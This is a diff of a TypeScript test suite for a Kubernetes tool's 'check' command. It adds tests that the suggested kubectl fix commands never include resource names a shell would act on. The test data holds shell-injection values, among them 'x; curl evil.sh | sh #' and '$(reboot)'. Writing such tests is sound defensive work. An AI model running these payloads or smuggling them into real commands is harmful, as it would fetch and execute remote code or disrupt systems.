@@ -1,8 +1,9 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import type { ClusterFacts, NamedSecret } from '../../../src/questions/check/facts.ts';
+import type { ClusterFacts } from '../../../src/questions/check/facts.ts';
 import { judge } from '../../../src/questions/check/judge.ts';
 import { renderCheck } from '../../../src/questions/check/render-check.ts';
+import type { NamedSecret } from '../../../src/units/named-secret.ts';
 import { makeNode, NOW, REGION_LABEL } from '../../builders.ts';
 import {
   ANSWER,
@@ -22,6 +23,12 @@ const APPLY = 'kubectl apply -k manifests/base';
 const SILENT = { outcome: 'silent', namespace: 'shop' } as const;
 const TOKEN: NamedSecret = { source: 'electricity-maps', field: 'token', where: { file: '/sources/electricity-maps' } };
 const VARIABLE: NamedSecret = { source: 'watttime', field: 'password', where: { env: 'WT_PASSWORD' } };
+
+const HOSTILE = 'x; curl evil.sh | sh #';
+
+function names(count: number): readonly string[] {
+  return Array.from({ length: count }, (_, index) => `n${index}`);
+}
 
 function webhooks(...changed: readonly ReturnType<typeof webhookOf>[]): Partial<ClusterFacts> {
   const all = ['pods', 'namespaces', 'workloads'].map((name) => webhookOf(name));
@@ -189,6 +196,7 @@ describe('gridgate check finds', () => {
       { settings: { value: { mistakes: ['ConfigMap a/b, line 1: sources: x'] } } },
       [
         /^failed gridgate\.yaml: ConfigMap a\/b, line 1: sources: x; the last good one counts -> kubectl edit configmap gridgate/,
+        /^not known namespaces: not judged: 1 that ask/,
       ],
     ],
     [
@@ -219,6 +227,14 @@ describe('gridgate check finds', () => {
         { keys: new Map([['Secret gridgate-sources', { value: new Set() }]]) },
       ),
       [/-> kubectl edit secret gridgate-sources -n gridgate-system$/],
+    ],
+    [
+      'a Secret whose name a shell would act upon: no command at all',
+      withSecret(TOKEN, {
+        ...controllers({ mounts: [{ path: '/sources', from: { kind: 'Secret', name: HOSTILE } }] }),
+        keys: new Map([[`Secret ${HOSTILE}`, { value: undefined }]]),
+      }),
+      [/^failed secrets: .*: there is no Secret x; curl evil\.sh \| sh # in gridgate-system$/],
     ],
     [
       'a Secret with the key: nothing',
@@ -308,6 +324,47 @@ describe('gridgate check finds', () => {
       ],
     ],
     [
+      'namespaces that only carry a stale label: warnings, however many',
+      { namespaces: { value: names(6).map((name) => namespaceOf(name, {}, true)) } },
+      [...Array(5).fill(/^warning namespaces: n\d has the label/), /^warning namespaces: 1 more namespaces are not/],
+    ],
+    [
+      'what failed before what is only odd, each namespace counted once',
+      {
+        namespaces: {
+          value: [
+            ...names(6).map((name) => namespaceOf(name, {}, true)),
+            namespaceOf('broken', { mode: 'enforced' }, false),
+          ],
+        },
+      },
+      [
+        /^failed namespaces: broken counts as audit/,
+        /^failed namespaces: broken opted in, but lacks the label/,
+        ...Array(4).fill(/^warning namespaces: n\d has the label/),
+        /^warning namespaces: 2 more namespaces are not in order$/,
+      ],
+    ],
+    ...[{ value: { mistakes: ['line 1: x'] } }, NOT_READ].map((settings): (typeof rows)[number] => [
+      `no fault of a namespace whose mode is that of a gridgate.yaml that ${'value' in settings ? 'has mistakes' : 'nobody may read'}`,
+      {
+        settings,
+        namespaces: {
+          value: [
+            namespaceOf('shop', {}, true),
+            namespaceOf('web', { regions: '*' }, false),
+            namespaceOf('out', { mode: 'off' }, true),
+            namespaceOf('lab', { mode: 'audit' }, false),
+          ],
+        },
+      },
+      [
+        /gridgate\.yaml: /,
+        /^failed namespaces: lab opted in, but lacks the label/,
+        /^not known namespaces: not judged: 3 that ask for no mode, or for off/,
+      ],
+    ]),
+    [
       'annotations that nobody understands',
       { namespaces: { value: [namespaceOf('a', { mode: 'enforced' }, true)] } },
       [/^failed namespaces: a counts as audit: gridgate\.dev\/mode: "enforced" is not one of/],
@@ -381,6 +438,31 @@ describe('what gridgate check prints', () => {
   it('has nothing in it that a terminal acts upon', () => {
     const report = judge(factsOf({ invalidRegions: [hostile], onNamespaces: { outcome: 'refused', why: hostile } }));
     assert.match(renderCheck(report, 100), /^[\P{C}\n]+$/u);
+  });
+
+  it('has no command with a name in it that a shell would act upon', () => {
+    const named = [HOSTILE, '$(reboot)', '`reboot`', "a'b", 'a\nb', '--kubeconfig', 'a b', ''];
+    for (const name of named) {
+      const deployments = (['webhook', 'controllers'] as const).map((role) =>
+        deploymentOf(role, { name, available: 0, replicas: role === 'webhook' ? 0 : 2, mounts: [] }),
+      );
+      const { checks } = judge(
+        factsOf({
+          ...withSecret(TOKEN),
+          ...{ systemNamespace: name, regionLabel: name, deployments: { value: deployments } },
+          regions: { value: [regionOf(name, { elastic: true }, health('False', 'HTTP 401'))] },
+          nodes: { value: [makeNode(name), makeNode('n2', 'mars')] },
+          namespaces: { value: [namespaceOf(name, {}, true), namespaceOf(name, { mode: 'x' }, false)] },
+          ...{ lease: { value: undefined }, endpoints: { value: { ready: 0, notReady: 0 } }, onPods: SILENT },
+          killSwitch: { value: { cap: 'audit' } },
+        }),
+      );
+      assert.deepEqual(
+        checks.flatMap(({ todo }) => (todo === null || todo === APPLY ? [] : todo)),
+        [],
+        name,
+      );
+    }
   });
 
   it('has an end, however long others talk', () => {
